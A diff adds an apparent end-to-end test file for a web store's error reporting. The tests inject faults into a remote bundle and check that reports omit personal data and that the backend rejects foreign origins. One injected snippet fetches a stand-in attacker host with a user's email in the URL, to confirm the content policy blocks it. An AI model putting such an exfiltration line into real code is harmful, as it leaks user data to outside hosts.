@@ -1,0 +1,201 @@
+import type { Page } from 'playwright-core';
+import * as v from 'valibot';
+import { type BrokenFile, createBrokenReleases, isEntry } from './support/broken-release';
+import { eventually } from './support/patience';
+import { backendUrl, siteUrl } from './support/site';
+import { useBrowser } from './support/visit';
+
+const visit = useBrowser();
+const releases = createBrokenReleases();
+
+afterEach(() => releases.mend());
+
+const listSchema = v.array(
+  v.looseObject({
+    kind: v.string(),
+    remote: v.string(),
+    version: v.string(),
+    page: v.string(),
+    composition: v.string(),
+    count: v.number(),
+    error: v.optional(v.string()),
+    frames: v.optional(v.array(v.string())),
+  }),
+);
+
+async function listedText(): Promise<string> {
+  return await (await fetch(`${backendUrl}/reports.json`)).text();
+}
+
+/** The newest report that matches; a page sends it within two seconds. */
+async function reported(expected: Readonly<Record<string, unknown>>): Promise<void> {
+  await eventually(async () => {
+    const reports = v.parse(listSchema, JSON.parse(await listedText()));
+    expect(reports).toContainEqual(expect.objectContaining(expected));
+  });
+}
+
+const EMAIL = 'emma.lindqvist@littlearches.example';
+/** Added to a remote's file: it fails in every way on demand, with what a parent typed in its messages. */
+const FAULTS = `
+;addEventListener('test-fault', function fault({ detail }) {
+  const fail = () => { throw new RangeError('Emma <${EMAIL}> ' + location.href); };
+  if (detail === 'timer') setTimeout(fail);
+  else if (detail === 'rejection') void Promise.reject(new TypeError('Emma ${EMAIL}'));
+  else if (detail === 'policy') void fetch('https://evil.example/?who=${EMAIL}').catch(() => {});
+  else fail();
+});`;
+
+async function fault(page: Page, detail: string): Promise<void> {
+  await page.evaluate((kind) => dispatchEvent(new CustomEvent('test-fault', { detail: kind })), detail);
+}
+
+/** What the page's HTML names, and what the router asks for on the way from another page. */
+const isProductPage = (name: string) => name.startsWith('page-product');
+const isProductChunk = (name: string, text: string) => /^\d/.test(name) && text.includes('Add to Cart');
+
+/** A window at a page of the store whose file has the faults in it, and what its reports should say. */
+async function visitFaulty(query = '') {
+  const broken = releases.break('remote-store', isProductPage, (text) => text + FAULTS);
+  const { page, context, problems } = await visit(`/store/rocket-insole${query}`);
+  await page.getByRole('heading', { name: 'Rocket Insole', level: 1 }).waitFor();
+  return { page, context, problems, expected: await expectedOf(page, broken) };
+}
+
+async function expectedOf(page: Page, { version }: BrokenFile) {
+  const { id } = JSON.parse((await page.locator('#composition').textContent()) ?? '') as { id: string };
+  return { remote: 'remote-store', version, composition: id, page: '/store/:productSlug' };
+}
+
+it.each([
+  ['handler', 'uncaught', 'RangeError'],
+  ['timer', 'uncaught', 'RangeError'],
+  ['rejection', 'rejection', 'TypeError'],
+])(
+  'a remote’s %s that fails is listed with remote, version, composition and route pattern',
+  async (detail, kind, error) => {
+    const { page, problems, expected } = await visitFaulty(`?case=${detail}`);
+    problems.expect(/exception: Emma/);
+    await fault(page, detail);
+    await reported({ ...expected, kind, error });
+  },
+);
+
+it('nothing of the address, of what was typed or of the message leaves the page', async () => {
+  const { page, context, problems } = await visitFaulty(
+    '?email=emma%40example.org&child=6f1c2d34-1111-4222-8333-444455556666#token=geheim',
+  );
+  problems.expect(/exception: Emma/);
+  const sent: string[] = [];
+  context.on('request', (request) => {
+    if (request.url() === `${backendUrl}/reports`) sent.push(request.postData() ?? '');
+  });
+  for (const detail of ['handler', 'timer', 'rejection']) await fault(page, detail);
+  await eventually(() => expect(sent.join('')).toContain('RangeError'));
+  expect(sent.join('')).not.toMatch(/emma|lindqvist|geheim|6f1c2d34|rocket|\?/i);
+  expect(await listedText()).not.toMatch(/emma|lindqvist|geheim|6f1c2d34|rocket/i);
+});
+
+it('what the policy refuses is told by the browser, and listed once with the route pattern', async () => {
+  const { page, problems, expected } = await visitFaulty('?child=emma');
+  problems.expect(/policy: connect-src blocked https:\/\/evil\.example/);
+  problems.expect(/evil\.example/);
+  await fault(page, 'policy');
+  const { composition: _, ...place } = expected;
+  await reported({
+    ...place,
+    kind: 'policy',
+    policy: { directive: 'connect-src', blocked: 'https://evil.example' },
+  });
+  const all = v.parse(listSchema, JSON.parse(await listedText())).filter(({ kind }) => kind === 'policy');
+  expect(all).toEqual([expect.objectContaining({ count: 1 })]);
+  expect(JSON.stringify(all)).not.toContain('emma');
+});
+
+it('a chunk that throws while it runs is reported and not fetched again', async () => {
+  const broken = releases.break('remote-store', isProductChunk, throwing('the chunk'));
+  const { page, problems } = await visit('/store');
+  problems.expect(/exception: thrown by the chunk/);
+  problems.expect(/remote-store/);
+  const fetches = countFetches(page, broken);
+  await page.getByLabel('Select Product on level 1').selectOption('Rocket Insole');
+  await page.getByRole('button', { name: 'View Product' }).click();
+  await page.getByRole('button', { name: 'Try again' }).click();
+  await reported({
+    ...(await expectedOf(page, broken)),
+    ...THROWN,
+    frames: [expect.stringContaining(broken.path)],
+  });
+  await page.getByRole('banner').getByRole('button', { name: 'Cart' }).waitFor();
+  expect(fetches()).toBe(1);
+});
+
+it.each([
+  ['/about-us', 'by a link'],
+  ['/store', 'by its address'],
+])('an entry that throws while it runs is reported and not fetched again: from %s, %s', async (path) => {
+  const broken = releases.break('remote-store', isEntry, throwing('the entry'));
+  const { page, problems } = await visit('about:blank');
+  problems.expect(/exception: thrown by the entry/);
+  problems.expect(/remote-store/);
+  const fetches = countFetches(page, broken);
+  await page.goto(path);
+  if (path !== '/store') await goToStore(page);
+  await reported({ ...(await expectedOf(page, broken)), ...THROWN });
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Concept' }).click();
+  await page.getByRole('heading', { name: 'A foot is a bridge', level: 1 }).waitFor();
+  await goToStore(page);
+  expect(fetches()).toBe(1);
+});
+
+it('a file that does not arrive is listed', async () => {
+  const { page, context, problems } = await visit('/about-us');
+  problems.expect(/remote-kids-zone/);
+  await context.route('**/assets/remote-kids-zone/**', (route) => route.abort('failed'));
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Concept' }).waitFor();
+  await page.goto('/kids-zone');
+  await reported({ kind: 'load', remote: 'remote-kids-zone', page: '/kids-zone' });
+});
+
+it('a report is sent also when the page is left at once, before the reporter is complete', async () => {
+  const { page, problems, context, expected } = await visitFaulty();
+  problems.expect(/exception: Emma/);
+  await context.route('**/assets/shell/*/reports.*.js', () => {});
+  await page.reload();
+  await page.getByRole('heading', { name: 'Rocket Insole', level: 1 }).waitFor();
+  await fault(page, 'handler');
+  await page.goto('about:blank');
+  await eventually(async () => {
+    const bare = v.parse(listSchema, JSON.parse(await listedText())).filter(({ error }) => !error);
+    expect(bare).toContainEqual(expect.objectContaining({ ...expected, kind: 'uncaught' }));
+  });
+});
+
+it('refuses reports of other sites and junk, and goes on', async () => {
+  const send = async (body: string, origin: string) =>
+    (await fetch(`${backendUrl}/reports`, { method: 'POST', body, headers: { origin } })).status;
+  expect(await send('{}', 'https://evil.example')).toBe(403);
+  expect(await send('junk', siteUrl)).toBe(400);
+  expect(await send('x'.repeat(70_000), siteUrl)).toBe(413);
+  expect(await send(JSON.stringify({ format: 1, composition: '', reports: [] }), siteUrl)).toBe(204);
+});
+
+/** Where the page was is left open: a file may run while its page is still on the way. */
+const THROWN = { kind: 'script', error: 'RangeError', page: expect.stringMatching(/^\/(about-us|store)/) };
+
+function countFetches(page: Page, { path }: BrokenFile): () => number {
+  let count = 0;
+  page.on('request', (request) => {
+    if (new URL(request.url()).pathname === path) count += 1;
+  });
+  return () => count;
+}
+
+function throwing(who: string) {
+  return (text: string) => `throw new RangeError('thrown by ${who} of ${EMAIL}');\n${text}`;
+}
+
+async function goToStore(page: Page): Promise<void> {
+  await page.getByRole('banner').getByRole('link', { name: 'Products' }).click();
+  await page.getByRole('main').getByRole('button', { name: 'Retry' }).waitFor();
+}
